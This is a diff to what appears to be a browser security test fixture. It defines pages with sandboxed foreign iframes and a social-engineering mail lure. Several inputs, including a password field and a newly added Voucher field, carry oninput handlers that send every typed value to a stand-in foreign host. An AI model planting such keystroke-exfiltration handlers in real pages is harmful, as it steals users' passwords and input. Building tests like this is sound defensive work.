@@ -67,7 +67,8 @@ const pages = (foreign: string): Record<string, string> => ({
   '/advert': `<h1>Orders</h1><p>Order 4711: a lamp</p><iframe src="${foreign}/ad" width="500" height="120"></iframe>`,
   '/adverts': `<h1>Orders</h1><iframe src="${foreign}/writer" width="500" height="60"></iframe><iframe src="${foreign}/written" width="500" height="120"></iframe>`,
   '/preview': `<h1>Preview of what Mallory wrote</h1><iframe sandbox="allow-scripts allow-forms" width="500" height="120" srcdoc="
-<label>Coupon <input oninput='fetch(&quot;${foreign}/typed?&quot; + value)'></label><label>Password <input type='password' oninput='fetch(&quot;${foreign}/secret?&quot; + value)'></label>"></iframe>`,
+<label>Coupon <input oninput='fetch(&quot;${foreign}/typed?&quot; + value)'></label><label>Password <input type='password' oninput='fetch(&quot;${foreign}/secret?&quot; + value)'></label>"></iframe><iframe sandbox="allow-scripts" width="500" height="60" src="/uploaded"></iframe>`,
+  '/uploaded': `<label>Voucher <input oninput="fetch('${foreign}/typed?' + value)"></label>`,
   '/mail': `<h1>Inbox</h1><p>Statement: 1,204 owed</p><p>Reply with a picture, so that I see that you care.</p>
 <div contenteditable role="textbox" aria-label="Reply" style="min-height: 60px; border: 1px solid"></div>`,
   '/order': `<h1>Basket</h1><form method="post" action="/kept"><button>Place it</button><input aria-label="Note"></form>`,
